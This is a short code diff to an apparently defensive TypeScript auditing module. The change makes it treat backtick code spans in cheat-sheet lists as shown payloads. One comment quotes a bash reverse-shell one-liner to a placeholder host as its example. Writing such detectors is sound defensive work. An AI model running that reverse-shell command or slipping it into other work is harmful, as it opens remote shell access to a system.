@@ -251,9 +251,22 @@ export function inShownPayload(file: AuditText, index: number): boolean {
   const starts = startsOf(file);
   const line = lineOf(starts, index);
   const block = blockOf(file, line);
-  if (block === undefined) return false;
+  // A code span in a cheat sheet's list or table ("- Bash: `bash -i >& /dev/tcp/LHOST/LPORT 0>&1`"): read as its
+  // own one-line block that may be ordered run, so only a placeholder name to fill in makes it shown.
+  if (block === undefined)
+    return inSpan(file, starts, line, index) && shownPayload(file, starts, line, line, true);
   const intro = blockIntro(file, starts, block);
   return shownPayload(file, starts, block, line, IMPERATIVE.test(intro) && !UNDOES.test(intro));
+}
+
+/** Whether `index` is inside a backtick code span of its line (the line read to 2,000 characters). */
+function inSpan(file: AuditText, starts: readonly number[], line: number, index: number): boolean {
+  const from = starts[line]!;
+  if (index - from > 2000) return false;
+  const before = file.text.slice(from, index);
+  let ticks = 0;
+  for (let i = before.indexOf("`"); i !== -1; i = before.indexOf("`", i + 1)) ticks++;
+  return ticks % 2 === 1;
 }
 
 export { inAttackSection } from "./attack-sections.js";
